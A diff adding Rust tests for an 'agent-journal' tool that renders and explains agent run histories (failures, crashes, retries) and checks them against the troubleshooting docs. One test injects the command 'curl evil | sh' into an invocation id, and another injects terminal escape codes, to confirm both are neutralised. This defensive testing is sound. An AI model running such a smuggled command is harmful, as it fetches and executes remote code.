@@ -1,0 +1,335 @@
+//! Every kept history, as `agent-journal` shows and explains it.
+
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+
+use journal::{Event, Timestamp};
+use operator::explain;
+use operator::history::{newest, runs};
+use operator::timeline;
+
+fn folder() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../workflow/histories")
+}
+
+fn history(name: &str) -> Vec<Event> {
+    let text = std::fs::read_to_string(folder().join(format!("{name}.jsonl"))).unwrap();
+    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
+}
+
+/// Ninety seconds after the last event.
+fn later(events: &[Event]) -> Timestamp {
+    let last: Timestamp = events.last().unwrap().timestamp.parse().unwrap();
+    (std::time::UNIX_EPOCH
+        + std::time::Duration::from_micros(last.as_micros().unsigned_abs() + 90_000_000))
+    .into()
+}
+
+/// As on a terminal without colours: the newest run's events, its summary, its explanation.
+fn rendered(events: &[Event]) -> String {
+    let runs = runs(events);
+    let run = newest(&runs).unwrap();
+    let mut lines: Vec<_> = run.entries.iter().map(timeline::line).collect();
+    let number =
+        1 + runs.iter().position(|other| other.invocation_id == run.invocation_id).unwrap();
+    lines.push(String::new());
+    lines.push(timeline::summary(run, number, runs.len(), later(events)));
+    lines.push(String::new());
+    lines.push(explain(&runs, later(events)));
+    anstream::adapter::strip_str(&lines.join("\n")).to_string()
+}
+
+/// What is said of each history, and the exit code: enough to know what failed, and where.
+const EXPLAINED: [(&str, u8, &[&str]); 16] = [
+    ("completed", 0, &["The session completed: the agent worked for"]),
+    (
+        "running",
+        3,
+        &[
+            "has not ended",
+            "AGENT_BACKGROUND_TASK_STARTED was 1 min 30 s ago and has no end",
+            "It is at: the agent",
+        ],
+    ),
+    (
+        "agent-failed",
+        1,
+        &[
+            "the agent ended with an error",
+            "AgentError: reading 3 files\\nno such model (exit status: 3)",
+            "It stopped at: the agent",
+            "container's log",
+        ],
+    ),
+    (
+        "agent-panicked",
+        1,
+        &["the agent panicked", "the len is 3 but the index is 7", "It stopped at: the agent"],
+    ),
+    (
+        "container-stopped",
+        1,
+        &[
+            "the container was told to stop while the agent worked",
+            "Terminated",
+            "It stopped at: the agent",
+        ],
+    ),
+    (
+        "container-killed",
+        1,
+        &[
+            "until its polls were spent",
+            "the agent still works, or its container was killed",
+            "It stopped at: the agent",
+        ],
+    ),
+    (
+        "entrypoint-failed",
+        1,
+        &[
+            "the container received the request and did not start the agent",
+            "dynamodb:PutItem on table agent-journal is denied",
+            "It stopped at: the container's entrypoint",
+        ],
+    ),
+    (
+        "invocation-failed",
+        1,
+        &[
+            "InvokeAgentRuntime failed, the agent was not started",
+            "the container does not answer",
+            "It stopped at: the way from the invoker to the container (AgentCore)",
+        ],
+    ),
+    (
+        "invoker-failed",
+        1,
+        &[
+            "the invoker failed before it called AgentCore",
+            "Lambda.ResourceNotFoundException",
+            "It stopped at: the invoker (Lambda)",
+            "/aws/lambda/",
+        ],
+    ),
+    (
+        "invoker-crashed",
+        1,
+        &[
+            "until its polls were spent",
+            "no container has journaled the request: the invoker died",
+            "invoker's log",
+            "container's log",
+        ],
+    ),
+    (
+        "invoker-retried",
+        0,
+        &["The session completed", "The Lambda was run 2 times; tasks started: 1"],
+    ),
+    (
+        "outcome-unknown",
+        0,
+        &["The session completed", "could not know whether the agent was started"],
+    ),
+    (
+        "monitor-failed",
+        1,
+        &[
+            "the workflow could not read the journal",
+            "DynamoDb.AccessDeniedException",
+            "The agent itself completed",
+            "It stopped at: the workflow",
+        ],
+    ),
+    ("two-runs", 0, &["The session completed", "the newest of 2 runs"]),
+    ("skewed-clocks", 0, &["Clocks differ: the clock of the agent is behind that of the invoker"]),
+    ("direct-call", 0, &["The session completed"]),
+];
+
+#[test]
+fn every_history_is_shown_and_explained() {
+    let files = std::fs::read_dir(folder()).unwrap().map(|file| file.unwrap().path());
+    let kept: BTreeSet<_> =
+        files.map(|file| file.file_stem().unwrap().to_str().unwrap().to_owned()).collect();
+    let explained = EXPLAINED.iter().map(|(name, ..)| (*name).to_owned()).collect();
+    assert_eq!(kept, explained);
+    for (name, code, said) in EXPLAINED {
+        let events = history(name);
+        let runs = runs(&events);
+        assert_eq!(newest(&runs).unwrap().exit_code(), code, "{name}");
+        let explanation = explain(&runs, later(&events));
+        for words in said {
+            assert!(explanation.contains(words), "{name}: {words:?} is not in:\n{explanation}");
+        }
+        insta::assert_snapshot!(name, rendered(&events));
+    }
+}
+
+/// The examples of docs/troubleshooting.md, as this test would print them.
+#[test]
+fn the_documents_examples_are_what_the_command_says() {
+    let document = include_str!("../../docs/troubleshooting.md");
+    let mut table =
+        String::from("| journal | exit code | `agent-journal explain` begins |\n|---|---|---|\n");
+    for (name, code, _) in EXPLAINED {
+        let events = history(name);
+        let explanation = explain(&runs(&events), later(&events));
+        let first = explanation.lines().next().unwrap();
+        table += &format!("| `{name}` | {code} | {first} |\n");
+    }
+    let killed = history("container-killed");
+    let killed = explain(&runs(&killed), later(&killed));
+    let failed = rendered(&history("agent-failed"));
+    let (failed, _) = failed.split_once("\n\nThe session").unwrap();
+    for example in [&*table, &*killed, failed] {
+        assert!(document.contains(example), "docs/troubleshooting.md does not have:\n{example}");
+    }
+}
+
+#[test]
+fn every_event_of_a_history_stands_in_its_json_line() {
+    for (name, ..) in EXPLAINED {
+        for event in history(name) {
+            let line = timeline::json_line(&event).unwrap();
+            assert_eq!(serde_json::from_str::<Event>(&line).unwrap(), event);
+        }
+    }
+}
+
+fn position(events: &[Event], status: &str) -> usize {
+    events.iter().position(|event| event.status.as_str() == status).unwrap()
+}
+
+/// `base` with one thing changed, and what is then said of it.
+fn broken(base: &str, change: impl FnOnce(&mut Vec<Event>)) -> (u8, String) {
+    let mut events = history(base);
+    change(&mut events);
+    let runs = runs(&events);
+    let run = newest(&runs).unwrap();
+    assert_eq!(
+        explain(&runs, later(&events)).matches("The history is broken").count(),
+        run.defects.len()
+    );
+    (run.exit_code(), run.defects.join("; "))
+}
+
+#[test]
+fn a_history_that_contradicts_the_rules_is_broken_and_says_how() {
+    let (code, said) = broken("completed", |events| {
+        events.remove(position(events, "AGENT_BACKGROUND_TASK_STARTED"));
+    });
+    assert_eq!(
+        (code, &*said),
+        (4, "AGENT_BACKGROUND_TASK_COMPLETED ends what no event has started")
+    );
+    let (code, said) = broken("completed", |events| {
+        let mut second = events[position(events, "AGENT_BACKGROUND_TASK_COMPLETED")].clone();
+        second.status = "AGENT_BACKGROUND_TASK_FAILED".into();
+        events.push(second);
+    });
+    assert_eq!((code, &*said), (4, "AGENT_BACKGROUND_TASK_FAILED is the second end of one task"));
+    let (code, said) = broken("agent-failed", |events| {
+        events[2].sort_key = "EVENT#2026-11-23T00:00:00.000000Z".to_owned();
+    });
+    assert_eq!(code, 4);
+    assert!(said.starts_with("AGENT_ENTRYPOINT_STARTED has the sort key EVENT#2026-11-23T00:00:00.000000Z and the timestamp"), "{said}");
+}
+
+#[test]
+fn what_comes_late_or_from_elsewhere_is_explained_too() {
+    let mut late = history("container-killed");
+    let failed = history("agent-failed");
+    let mut end = failed[position(&failed, "AGENT_BACKGROUND_TASK_FAILED")].clone();
+    end.invocation_id = late[0].invocation_id.clone();
+    end.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
+    end.sort_key = format!("EVENT#{}", end.timestamp);
+    late.push(end);
+    let said = explain(&runs(&late), later(&late));
+    assert!(
+        said.contains("until its polls were spent. The agent's own end came only after that."),
+        "{said}"
+    );
+    // A later end is not the cause of an earlier failure.
+    assert!(said.contains("Cause: PollAttemptsSpent"), "{said}");
+    let mut hostile = history("running");
+    for event in &mut hostile {
+        event.invocation_id = "arn:x; curl evil | sh #".to_owned();
+    }
+    let said = explain(&runs(&hostile), later(&hostile));
+    assert!(!said.contains("curl"), "{said}");
+    let mut elsewhere = history("running");
+    elsewhere.retain(|event| event.source != "agent");
+    let said = explain(&runs(&elsewhere), later(&elsewhere));
+    assert!(said.contains("what answered is not this agent-runtime"), "{said}");
+    let mut refused = history("running");
+    let mut refusal = history("entrypoint-failed").remove(3);
+    assert_eq!(refusal.status.as_str(), "AGENT_ENTRYPOINT_FAILED");
+    refusal.invocation_id = refused[0].invocation_id.clone();
+    refusal.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
+    refusal.sort_key = format!("EVENT#{}", refusal.timestamp);
+    refused.push(refusal);
+    let said = explain(&runs(&refused), later(&refused));
+    assert!(said.contains("The container refused a request of this run: JournalError"), "{said}");
+    let mut nothing = history("running");
+    nothing.truncate(1);
+    let said = explain(&runs(&nothing), later(&nothing));
+    assert!(said.contains("the invoker has journaled nothing"), "{said}");
+    assert!(said.contains("It is at: the invoker"), "{said}");
+}
+
+#[test]
+fn what_something_foreign_wrote_is_shown_and_breaks_nothing() {
+    let (code, said) = broken("completed", |events| {
+        let mut note = events[3].clone();
+        note.status = "TASK_PLAN_FAILED".into();
+        note.error_message = Some("\u{1b}[31mred\u{1b}[0m".to_owned());
+        note.invocation_id = String::new();
+        events.push(note);
+    });
+    assert_eq!((code, &*said), (0, ""));
+    let mut events = history("completed");
+    let mut odd = events[3].clone();
+    (odd.timestamp, odd.sort_key) = ("soon\u{7}".to_owned(), "EVENT#soon\u{7}".to_owned());
+    odd.error_message = Some("\u{1b}[31mred".to_owned());
+    odd.invocation_id = String::new();
+    events.insert(4, odd);
+    let text = rendered(&events);
+    assert!(text.contains("soon\\u{7}") && text.contains("\\u{1b}[31mred"), "{text}");
+    assert!(!text.contains(['\u{1b}', '\u{7}']));
+    let line = timeline::json_line(&events[4]).unwrap();
+    assert!(line.contains("soon\\u0007") && line.contains("\\u001b[31mred"), "{line}");
+}
+
+#[test]
+fn the_trace_is_named_where_one_is_known() {
+    let events = history("agent-failed");
+    let trace = events[0].trace_id.as_deref().unwrap();
+    let text = rendered(&events);
+    assert!(text.contains(&format!("trace      {trace}")), "{text}");
+    assert!(text.contains(&format!("Look at the trace: {trace}")), "{text}");
+    assert!(!rendered(&history("direct-call")).contains("trace"));
+}
+
+#[test]
+fn a_request_that_was_refused_unread_does_not_hide_the_run() {
+    let mut events = history("completed");
+    for (status, second) in [("AGENT_ENTRYPOINT_STARTED", 58), ("AGENT_ENTRYPOINT_FAILED", 59)] {
+        let mut event = events[2].clone();
+        event.status = status.into();
+        event.invocation_id = "request-7".to_owned();
+        if status == "AGENT_ENTRYPOINT_FAILED" {
+            event.error_type = Some("InvalidRequest".to_owned());
+        }
+        event.timestamp = format!("2026-12-31T23:59:{second}.000000Z");
+        event.sort_key = format!("EVENT#{}", event.timestamp);
+        events.push(event);
+    }
+    assert_eq!(newest(&runs(&events)).unwrap().exit_code(), 0);
+    assert_eq!(runs(&events).len(), 2);
+    // One that was read, and then came to nothing, is the newest run.
+    events.pop();
+    assert_eq!(newest(&runs(&events)).unwrap().exit_code(), 3);
+}
